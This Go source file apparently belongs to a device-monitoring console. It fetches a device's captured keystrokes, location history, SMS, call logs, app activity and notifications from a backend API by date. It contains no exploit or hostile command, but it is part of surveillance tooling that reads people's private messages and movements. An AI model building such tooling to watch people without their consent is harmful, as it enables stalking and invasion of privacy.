// Package snapshot fetches historical state from the backend REST API when
// a session starts or the operator changes device or date. Live updates
// arrive over the relay; snapshots fill in everything that happened before.
package snapshot

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/url"
	"time"

	"github.com/monitorpro/console/pkg/errorsx"
	"github.com/monitorpro/console/pkg/events"
	"github.com/monitorpro/console/pkg/geocode"
	"github.com/monitorpro/console/pkg/normalize"
	"github.com/monitorpro/console/pkg/resilience"
)

type Config struct {
	BaseURL string        `mapstructure:"base_url"`
	Timeout time.Duration `mapstructure:"-"`
	Retries int           `mapstructure:"retries"`
}

func (c Config) withDefaults() Config {
	if c.Timeout <= 0 {
		c.Timeout = 15 * time.Second
	}
	if c.Retries <= 0 {
		c.Retries = 2
	}
	return c
}

// Device is one row of the device roster.
type Device struct {
	ID       string `json:"id"`
	Name     string `json:"name"`
	Online   bool   `json:"online"`
	LastSeen any    `json:"lastSeen"`
}

// Client reads historical collections for one device. Responses are
// normalized through the same grammar used for live frames so snapshot and
// stream rows are indistinguishable downstream.
type Client struct {
	cfg      Config
	client   *http.Client
	logger   *slog.Logger
	retry    resilience.RetryPolicy
	resolver *geocode.Resolver
}

func NewClient(cfg Config, resolver *geocode.Resolver, logger *slog.Logger) *Client {
	cfg = cfg.withDefaults()
	if logger == nil {
		logger = slog.Default()
	}
	return &Client{
		cfg:      cfg,
		client:   &http.Client{Timeout: cfg.Timeout},
		logger:   logger,
		retry:    resilience.NewRetryPolicy(cfg.Retries, 300*time.Millisecond),
		resolver: resolver,
	}
}

// Devices returns the full device roster.
func (c *Client) Devices(ctx context.Context) ([]Device, error) {
	var out []Device
	if err := c.get(ctx, "/api/devices", nil, &out); err != nil {
		return nil, err
	}
	return out, nil
}

// Keylogs returns captured keystrokes for a device on the given date.
func (c *Client) Keylogs(ctx context.Context, deviceID string, date time.Time) ([]events.Keylog, error) {
	var raw []map[string]any
	if err := c.get(ctx, "/api/logs/"+deviceID+"/keylog", dateQuery(date), &raw); err != nil {
		return nil, err
	}
	out := make([]events.Keylog, 0, len(raw))
	for _, row := range raw {
		k, ok := normalize.Keylog(normalize.Entry{Data: payloadOrEmpty(row), Timestamp: row["timestamp"]})
		if !ok {
			continue
		}
		out = append(out, k)
	}
	return out, nil
}

// Locations returns the location history. Rows missing a reverse-geocoded
// address are resolved serially so the geocode throttle is respected.
func (c *Client) Locations(ctx context.Context, deviceID string, date time.Time) ([]events.Location, error) {
	var raw []map[string]any
	if err := c.get(ctx, "/api/logs/"+deviceID+"/location", dateQuery(date), &raw); err != nil {
		return nil, err
	}
	out := make([]events.Location, 0, len(raw))
	for _, row := range raw {
		loc, ok := normalize.Location(normalize.Entry{Data: row["data"], Timestamp: row["timestamp"]})
		if !ok {
			continue
		}
		if loc.Address == "" && c.resolver != nil {
			loc.Address = c.resolver.Resolve(ctx, loc.Lat, loc.Lng)
		}
		out = append(out, loc)
	}
	return out, nil
}

// SmsLogs returns the SMS history for the given date.
func (c *Client) SmsLogs(ctx context.Context, deviceID string, date time.Time) ([]events.Sms, error) {
	var raw []map[string]any
	if err := c.get(ctx, "/api/logs/"+deviceID+"/sms", dateQuery(date), &raw); err != nil {
		return nil, err
	}
	out := make([]events.Sms, 0, len(raw))
	for _, row := range raw {
		s, ok := normalize.Sms(normalize.Entry{Data: row["data"], Timestamp: row["timestamp"]})
		if !ok {
			continue
		}
		out = append(out, s)
	}
	return out, nil
}

// CallLogs returns the call history for the given date.
func (c *Client) CallLogs(ctx context.Context, deviceID string, date time.Time) ([]events.CallLog, error) {
	var raw []map[string]any
	if err := c.get(ctx, "/api/logs/"+deviceID+"/call_log", dateQuery(date), &raw); err != nil {
		return nil, err
	}
	out := make([]events.CallLog, 0, len(raw))
	for _, row := range raw {
		cl, ok := normalize.CallLog(normalize.Entry{Data: payloadOrEmpty(row), Timestamp: row["timestamp"]})
		if !ok {
			continue
		}
		out = append(out, cl)
	}
	return out, nil
}

// Activities returns the activity feed rows for the given date.
func (c *Client) Activities(ctx context.Context, deviceID string, date time.Time) ([]events.Activity, error) {
	var raw []map[string]any
	if err := c.get(ctx, "/api/activities/"+deviceID, dateQuery(date), &raw); err != nil {
		return nil, err
	}
	out := make([]events.Activity, 0, len(raw))
	for _, row := range raw {
		out = append(out, events.Activity{
			ID:          events.NewID(),
			Type:        stringAt(row, "type"),
			Title:       stringAt(row, "title"),
			Description: stringAt(row, "description"),
			PackageName: stringAt(row, "packageName"),
			Timestamp:   normalize.ResolveTime(row["timestamp"]),
		})
	}
	return out, nil
}

// Notifications returns server-stored notifications for the given date.
func (c *Client) Notifications(ctx context.Context, deviceID string, date time.Time) ([]events.Notification, error) {
	var raw []map[string]any
	if err := c.get(ctx, "/api/notifications/"+deviceID, dateQuery(date), &raw); err != nil {
		return nil, err
	}
	out := make([]events.Notification, 0, len(raw))
	for _, row := range raw {
		out = append(out, events.Notification{
			ID:        events.NewID(),
			Source:    stringAt(row, "source"),
			Message:   stringAt(row, "message"),
			Timestamp: normalize.ResolveTime(row["timestamp"]),
		})
	}
	return out, nil
}

func (c *Client) get(ctx context.Context, path string, query url.Values, out any) error {
	target := c.cfg.BaseURL + path
	if len(query) > 0 {
		target += "?" + query.Encode()
	}
	err := c.retry.Do(func() error {
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, target, nil)
		if err != nil {
			return err
		}
		resp, err := c.client.Do(req)
		if err != nil {
			return err
		}
		defer resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			io.Copy(io.Discard, resp.Body)
			return fmt.Errorf("snapshot status %d for %s", resp.StatusCode, path)
		}
		return json.NewDecoder(resp.Body).Decode(out)
	})
	if err != nil {
		c.logger.Error("snapshot_fetch_failed",
			"path", path,
			"error", err.Error(),
			"reason_code", string(errorsx.ReasonSnapshotFetch),
		)
		return errorsx.Wrap(err, errorsx.ReasonSnapshotFetch)
	}
	return nil
}

func dateQuery(date time.Time) url.Values {
	if date.IsZero() {
		return nil
	}
	return url.Values{"date": {date.UTC().Format(time.DateOnly)}}
}

func stringAt(m map[string]any, key string) string {
	if s, ok := m[key].(string); ok {
		return s
	}
	return ""
}

// payloadOrEmpty extracts the nested payload of a log row. Keylog and call
// rows without one still normalize, with every field at its sentinel.
func payloadOrEmpty(row map[string]any) any {
	if d, ok := row["data"]; ok && d != nil {
		return d
	}
	return map[string]any{}
}
